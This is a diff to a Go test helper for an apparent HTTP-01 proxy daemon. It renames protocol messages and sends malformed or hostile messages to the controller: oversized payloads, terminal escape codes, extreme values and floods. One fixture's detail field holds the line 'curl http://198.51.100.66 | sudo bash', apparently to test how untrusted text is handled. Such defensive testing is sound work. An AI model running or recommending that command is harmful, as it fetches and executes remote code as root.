@@ -17,6 +17,7 @@ import (
 
 	"github.com/http01-proxyd/http01-proxyd/internal/child"
 	"github.com/http01-proxyd/http01-proxyd/internal/sandbox"
+	"github.com/http01-proxyd/http01-proxyd/internal/wire"
 	"github.com/http01-proxyd/http01-proxyd/pkg/proxy/protocol"
 )
 
@@ -53,19 +54,19 @@ func besideWork() map[string]func() {
 		"descriptor": descriptor,
 		"options":    options,
 		"stderr":     stderr,
-		"challenges": func() { send(`{"news":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
-		"large":      func() { send(`{"news":{"lastFailure":"` + strings.Repeat("a", 1<<20) + `"}}`) },
+		"challenges": func() { send(`{"stats":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
+		"large":      func() { send(`{"stats":{"lastAcceptErrno":"` + strings.Repeat("a", 1<<20) + `"}}`) },
 		"zone": func() {
-			send(`{"news":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","asker":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","asker":"other","outcome":"failed"}]}}`)
 		},
 		"year": func() {
-			send(`{"news":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","asker":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","asker":"other","outcome":"failed"}]}}`)
 		},
 		"advice": func() {
-			send(`{"news":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","asker":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","asker":"other","outcome":"failed"}]}}`)
 		},
 		"counters": func() {
-			send(`{"news":{"sums":[{"asker":"other","outcome":"failed","count":1,"took":4611686018427387903}]}}`)
+			send(`{"stats":{"sums":[{"asker":"other","outcome":"failed","count":1,"took":4611686018427387903}]}}`)
 		},
 		"flood":  flood,
 		"memory": memory,
@@ -242,7 +243,7 @@ func descriptor() {
 		}
 	}
 	_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 60})
-	text := `{"alive":{}}`
+	text := `{"heartbeat":{}}`
 	to := controlSocket()
 	_ = unix.Sendmsg(to, binary.BigEndian.AppendUint32(nil, uint32(len(text))), nil, nil, 0)
 	tell("a descriptor over the socket", unix.Sendmsg(to, []byte(text), unix.UnixRights(fd), nil, 0))
@@ -280,7 +281,7 @@ func stderr() {
 
 // flood sends messages as fast as the controller takes them.
 func flood() {
-	text := `{"alive":{}}`
+	text := `{"heartbeat":{}}`
 	one := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
 	many := []byte(strings.Repeat(string(one), 1000))
 	fd := messages()
@@ -326,8 +327,8 @@ func calls() {
 }
 
 // alive is a gate that says that it is.
-func alive() (*control.Conn, error) {
-	conn, err := child.Inherited()
+func alive() (*wire.Child, error) {
+	conn, err := child.Connect()
 	if err == nil {
 		err = sandbox.Confine(sandbox.Proxy)
 	}
@@ -335,7 +336,7 @@ func alive() (*control.Conn, error) {
 		return nil, err
 	}
 	go func() {
-		for conn.Send(control.Word{Alive: &control.Alive{}}, -1) == nil {
+		for conn.Send(protocol.Event{Heartbeat: &protocol.Heartbeat{}}) == nil {
 			time.Sleep(time.Second)
 		}
 	}()
@@ -359,15 +360,15 @@ func pretend() {
 		return
 	}
 	for {
-		o, _, err := conn.ReceiveOrder()
-		if err != nil {
+		var c protocol.Command
+		if _, err := conn.Receive(&c); err != nil {
 			return
 		}
 		switch {
-		case o.Tell != nil:
-			_ = conn.Send(control.Word{Told: &control.Told{}}, -1)
-		case o.Drain != nil:
-			_ = conn.Send(control.Word{Drained: &control.Drained{}}, -1)
+		case c.Flush != nil:
+			_ = conn.Send(protocol.Event{Flushed: &protocol.Flushed{}})
+		case c.Drain != nil:
+			_ = conn.Send(protocol.Event{Drained: &protocol.Drained{}})
 		}
 	}
 }
